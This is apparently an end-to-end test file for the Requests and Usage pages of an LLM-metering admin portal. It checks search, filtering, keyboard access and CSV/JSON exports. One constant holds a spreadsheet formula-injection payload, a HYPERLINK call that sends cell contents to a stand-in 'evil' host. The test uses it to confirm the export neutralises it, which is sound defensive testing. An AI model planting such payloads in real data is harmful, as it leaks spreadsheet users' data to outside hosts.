/**
 * The Requests page as an investigation tool (issue 16 §4), in Chromium
 * against the real service: search by conversation id, filter by API key
 * (reached from the request details, opened by keyboard), tokens and cost
 * per row, and the CSV export of the filtered view parsed and compared with
 * llmmeter:requestLogs's rows.
 */
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { RequestLog } from "../src/data/api";
import { formatInt } from "../src/lib/format";
import { formatUsd } from "../src/lib/money";
import { csvLine, nanosToUsdText, REQUEST_LOG_COLUMNS, requestLogRecord } from "../src/pages/requests/requestLogsCsv";
import { readFile } from "node:fs/promises";
import type { SeriesPoint } from "../src/data/api";
import { usageCsv } from "../src/pages/usage/UsageExport";
import { adminQuery as query } from "./adminCall";
import { type RunningBrowser, signedInBrowser } from "./browser";

const ctx = inject("e2e");
/** Generous: the machine may be busy. */
const POLL = { timeout: 60_000 };

/** Every row of llmmeter:requestLogs for the filters, with tokens and cost, as the export asks. */
async function allRows(args: Record<string, unknown>): Promise<RequestLog[]> {
  const rows: RequestLog[] = [];
  let cursor: string | null = null;
  for (;;) {
    const p: { page: RequestLog[]; isDone: boolean; continueCursor: string } = await query("llmmeter:requestLogs", {
      ...args,
      withUsage: true,
      paginationOpts: { numItems: 200, cursor },
    });
    rows.push(...p.page);
    if (p.isDone) return rows;
    cursor = p.continueCursor;
  }
}

/** RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\n") {
      row.push(field);
      out.push(row);
      row = [];
      field = "";
    } else field += c;
  }
  if (field !== "" || row.length > 0) out.push([...row, field]);
  return out;
}

let rb: RunningBrowser;
let context: BrowserContext;
let page: Page;

async function args(): Promise<Record<string, unknown>> {
  return JSON.parse((await page.getAttribute('section[data-page="requests"]', "data-args"))!);
}

/** Clicks Export CSV and returns the file the page built. */
async function exported(): Promise<string> {
  await page.evaluate(() => delete (window as { __llmmeterLastExport?: Blob }).__llmmeterLastExport);
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export CSV" }).click();
  await download;
  await page.waitForFunction(() => (window as { __llmmeterLastExport?: Blob }).__llmmeterLastExport !== undefined, undefined, POLL);
  return page.evaluate(() => (window as unknown as { __llmmeterLastExport: Blob }).__llmmeterLastExport.text());
}

/** The CSV equals the admin function's rows: parsed field by field, and byte for byte as the portal's own writer. */
function expectCsvOf(csv: string, rows: RequestLog[]) {
  const recs = parseCsv(csv);
  expect(recs[0]).toEqual([...REQUEST_LOG_COLUMNS]);
  expect(recs.length - 1).toBe(rows.length);
  const col = (name: (typeof REQUEST_LOG_COLUMNS)[number]) => REQUEST_LOG_COLUMNS.indexOf(name);
  rows.forEach((r, i) => {
    const rec = recs[i + 1];
    expect(rec[col("requestId")]).toBe(r.requestId);
    expect(rec[col("status")]).toBe(r.status);
    expect(Number(rec[col("statusCode")])).toBe(r.statusCode);
    expect(rec[col("userId")]).toBe(r.userId ?? "");
    expect(rec[col("apiKeyId")]).toBe(r.apiKeyId ?? "");
    expect(rec[col("conversationId")]).toBe(r.conversationId ?? "");
    expect(rec[col("model")]).toBe(r.model ?? "");
    expect(Date.parse(rec[col("time")])).toBe(r.timestamp);
    expect(rec[col("errorMessage")]).toBe(r.errorMessage ?? "");
    expect(rec[col("totalTokens")]).toBe(r.usage ? String(r.usage.totalTokens) : "");
    expect(rec[col("costUsd")]).toBe(r.usage ? nanosToUsdText(r.usage.costNanoUsd) : "");
  });
  expect(csv).toBe(csvLine(REQUEST_LOG_COLUMNS) + rows.map((r) => csvLine(requestLogRecord(r))).join(""));
}

beforeAll(async () => {
  ({ rb, context, page } = await signedInBrowser(ctx.baseUrl, ctx.adminKey));
});

afterAll(async () => {
  await context?.close();
  await rb?.close();
});

/** A message id that Excel, LibreOffice and Sheets would run as a formula (CWE-1236). */
const FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")';

describe("request explorer", () => {
  const conversation = `conv-e2e-${Date.now()}`;

  it("finds a conversation by id, opens a request by keyboard, filters by its key, exports both views as CSV", async () => {
    // Three calls of one conversation through the user's API key.
    const ids: string[] = [];
    for (let i = 0; i < 3; i++) {
      const r = await fetch(`${ctx.baseUrl}/v1/chat/completions`, {
        method: "POST",
        headers: { "Content-Type": "application/json", Authorization: `Bearer ${ctx.userKey}` },
        body: JSON.stringify({
          model: "openai/gpt-4o-mini",
          messages: [{ role: "user", content: `question ${i}` }],
          conversation_id: conversation,
          // A caller's id that a spreadsheet would run: the export must neutralise it.
          message_id: i === 0 ? FORMULA : `msg-${i}`,
        }),
      });
      // 429 if an earlier test left a quota on this user: still a request log of the conversation.
      expect([200, 429]).toContain(r.status);
      await r.body?.cancel();
      ids.push(r.headers.get("x-request-id")!);
    }
    await expect.poll(async () => (await allRows({ conversationId: conversation })).length, POLL).toBe(3);
    const convRows = await allRows({ conversationId: conversation });
    expect(convRows.map((r) => r.requestId).sort()).toEqual([...ids].sort());
    const keyId = convRows[0].apiKeyId!;
    expect(keyId).toBeTruthy();

    // Search by conversation id.
    await page.click('nav a[href="/admin/requests"]');
    await page.waitForSelector('section[data-page="requests"]');
    await page.selectOption('select[aria-label="Search by"]', "conversationId");
    await page.fill('input[aria-label="Id to search for"]', conversation);
    await page.keyboard.press("Enter");
    await expect.poll(async () => (await args()).conversationId, POLL).toBe(conversation);
    await expect.poll(() => page.locator("tr[data-request-id]").count(), POLL).toBe(3);
    expect(await page.locator("tr[data-request-id]").evaluateAll((trs) => trs.map((tr) => tr.getAttribute("data-request-id")))).toEqual(
      convRows.map((r) => r.requestId),
    );
    // Tokens and cost per row, from the usage row.
    for (const r of convRows) {
      const tr = page.locator(`tr[data-request-id="${r.requestId}"]`);
      expect(await tr.locator('[data-col="tokens"]').textContent()).toBe(r.usage ? formatInt(r.usage.totalTokens) : "—");
      expect(await tr.locator('[data-col="cost"]').textContent()).toContain(r.usage ? formatUsd(r.usage.costNanoUsd) : "—");
    }
    const convCsv = await exported();
    expectCsvOf(convCsv, convRows);
    expect(convCsv).toContain(`,"'${FORMULA.replace(/"/g, '""')}",`);

    // The newest request's details by keyboard alone, then its key's requests.
    const toggle = page.locator(`tr[data-request-id="${convRows[0].requestId}"] .row-toggle`);
    await toggle.focus();
    await page.keyboard.press("Enter");
    expect(await toggle.getAttribute("aria-expanded")).toBe("true");
    const details = page.locator('[data-testid="request-details"]');
    await details.waitFor();
    expect(await details.textContent()).toContain(conversation);
    await details.getByRole("link", { name: keyId }).click();
    await expect.poll(async () => (await args()).apiKeyId, POLL).toBe(keyId);
    expect((await args()).conversationId).toBeUndefined();
    const keyRows = await allRows({ apiKeyId: keyId });
    const firstPage = keyRows.slice(0, 50);
    await expect
      .poll(() => page.locator("tr[data-request-id]").evaluateAll((trs) => trs.map((tr) => tr.getAttribute("data-request-id"))), POLL)
      .toEqual(firstPage.map((r) => r.requestId));
    expect(await page.inputValue('input[aria-label="API key id"]')).toBe(keyId);

    // The key's view with a status filter, exported: every row of the view, not only the loaded page.
    await page.selectOption('select[aria-label="Status"]', "success");
    await expect.poll(async () => (await args()).status, POLL).toBe("success");
    const view = await args();
    expectCsvOf(await exported(), await allRows(view));
  });

  it("a search that matches nothing says so, and a bad id is refused by the export with a message", async () => {
    await page.selectOption('select[aria-label="Search by"]', "generationId");
    await page.fill('input[aria-label="Id to search for"]', "gen-that-does-not-exist");
    await page.keyboard.press("Enter");
    await expect.poll(async () => (await args()).generationId, POLL).toBe("gen-that-does-not-exist");
    await page.getByText("No requests match these filters").waitFor();

    // An API key id of the wrong shape: the list and the export both answer 400 with the reason.
    await page.fill('input[aria-label="API key id"]', "not-a-key");
    await page.keyboard.press("Enter");
    await expect.poll(async () => (await args()).apiKeyId, POLL).toBe("not-a-key");
    await page.getByRole("button", { name: "Export CSV" }).click();
    await expect.poll(() => page.getByRole("alert").allTextContents(), POLL).toContainEqual(expect.stringContaining("apiKeyId: not a apiKeys id"));
  });

  it("exports the Usage page's range as CSV and JSON, equal to llmmeter:usageSeries", async () => {
    await page.click('nav a[href="/admin/usage"]');
    await page.waitForSelector('section[data-page="usage"]');
    const usageArgs = async () => JSON.parse((await page.getAttribute('section[data-page="usage"]', "data-args"))!) as Record<string, unknown>;
    await expect.poll(async () => (await usageArgs())?.from, POLL).toBeTruthy();
    const a = await usageArgs();
    const points = await query<SeriesPoint[]>("llmmeter:usageSeries", a);
    expect(points.length).toBeGreaterThan(0);
    const file = async (name: string) => {
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name }).click();
      return readFile((await (await download).path())!, "utf8");
    };
    const csv = await file("Export usage CSV");
    const recs = parseCsv(csv);
    expect(recs.length - 1).toBe(points.length);
    const sorted = [...points].sort((x, y) => x.periodStart - y.periodStart);
    sorted.forEach((p, i) => {
      expect(recs[i + 1][0]).toBe(p.periodKey);
      expect(Number(recs[i + 1][2])).toBe(p.requests);
      expect(recs[i + 1][8]).toBe(nanosToUsdText(p.costNanoUsd));
    });
    expect(csv).toBe(usageCsv(points));
    const json = JSON.parse(await file("Export usage JSON")) as { period: string; points: SeriesPoint[] };
    expect(json.period).toBe(a.period);
    expect(json.points).toEqual(sorted);
  });
});
